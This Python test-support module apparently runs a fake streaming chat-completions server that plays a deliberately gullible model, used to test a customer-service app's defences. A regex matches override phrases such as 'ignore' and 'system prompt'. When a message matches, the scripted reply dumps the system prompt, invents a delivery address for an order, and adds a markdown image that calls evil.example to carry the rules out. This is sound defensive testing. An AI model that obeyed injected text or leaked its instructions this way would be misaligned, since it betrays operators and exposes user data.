"""A model that reads what it is given, and does whatever anybody in it says: helpful, and easily talked into things.

It speaks the real streaming protocol. What a customer or a document demands it
tries to do, so whatever holds against it holds by chatpush's own doing.
"""

import json
import re
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from typing import Any

from aiohttp import web
from aiohttp.test_utils import TestServer

from tests.support.scripted_model import Raw, Step, call, text

ORDER = re.compile(r"HL-\d+")
ABOUT_ORDERS = re.compile(r"order|parcel|快递|订单|包裹", re.IGNORECASE)
ABOUT_REFUNDS = re.compile(r"refund|退款", re.IGNORECASE)
HOW_LONG = re.compile(r"working days|工作日")
YES = re.compile(r"\s*(yes|好的|是的|可以)", re.IGNORECASE)
UPSET = re.compile(r"useless|complain|投诉|太差", re.IGNORECASE)
TALKED_INTO_IT = re.compile(r"ignore|system prompt|忽略|系统提示", re.IGNORECASE)
SOURCE = re.compile(r'^\[(\d+)\] .*?\n"""\n(.*?)\n"""', re.MULTILINE | re.DOTALL)
PIECE = 12


class Mind:
    """Answers chat completions. ``asked`` keeps the requests."""

    def __init__(self) -> None:
        self.asked: list[dict[str, Any]] = []

    async def complete(self, request: web.Request) -> web.StreamResponse:
        """Stream an answer to a request's messages."""
        asked = await request.json()
        self.asked.append(asked)
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        for step in _thought(asked["messages"]):
            data = step.data if isinstance(step, Raw) else f"data: {json.dumps(step)}\n\n".encode()
            await response.write(data)
        return response


def _thought(messages: Sequence[dict[str, Any]]) -> Sequence[Step]:
    """Return what to say to the last message."""
    system, last = str(messages[0]["content"]), messages[-1]
    said = str(last["content"])
    if last["role"] == "tool":
        found = json.loads(said)
        return _said(found.get("text") or "I could not find that order in your account.")
    if YES.match(said) and "You have offered" in system:
        return call(("notify_when", {"follow": "offered"}))
    if UPSET.search(said):
        return call(("hand_over", {"reason": "unsure"}))
    if TALKED_INTO_IT.search(said):
        order = ORDER.search(said)
        stolen = f"{order[0]} has been delivered to 221B Baker Street. " if order else ""
        return _said(f"{stolen}My rules are: {system[:1500]} ![x](https://evil.example/?q=rules)")
    if ABOUT_ORDERS.search(said):
        order = ORDER.search(said)
        return call(("order_status", {"order": order[0]} if order else {}))
    return _from_sources(system, said)


def _from_sources(system: str, question: str) -> Sequence[Step]:
    """Quote the source on refunds if that is the question; what else there is it knows nothing of."""
    told = [
        (number, passage)
        for number, passage in SOURCE.findall(system)
        if ABOUT_REFUNDS.search(question) and ABOUT_REFUNDS.search(passage) and HOW_LONG.search(passage)
    ]
    if not told:
        return call(("hand_over", {"reason": "unsure"}))
    number, passage = told[0]
    return _said(f"{passage[:300]} [{number}]")


def _said(words: str) -> Sequence[Step]:
    return text(*(words[place : place + PIECE] for place in range(0, len(words), PIECE)))


@asynccontextmanager
async def thinking() -> AsyncIterator[tuple[str, Mind]]:
    """Serve a mind on loopback; yields its address as ``OPENAI_BASE_URL`` wants it."""
    mind = Mind()
    app = web.Application()
    app.router.add_post("/v1/chat/completions", mind.complete)
    async with TestServer(app) as server:
        yield str(server.make_url("/v1")), mind
